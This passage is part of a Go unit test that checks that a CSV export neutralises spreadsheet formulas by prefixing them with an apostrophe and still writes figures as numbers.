		if rec[col["code"]] == "3.1" && rec[col["narrative"]] != "'"+formula {
			t.Fatalf("narrative cell %q, want the formula prefixed with '", rec[col["narrative"]])
		}
		for _, cell := range rec {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
				t.Fatalf("cell %q would run as a formula", cell)
			}
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				numbers++
			}
		}
	}
	if numbers == 0 {
		t.Fatal("no figure was written as a number")
	}
}
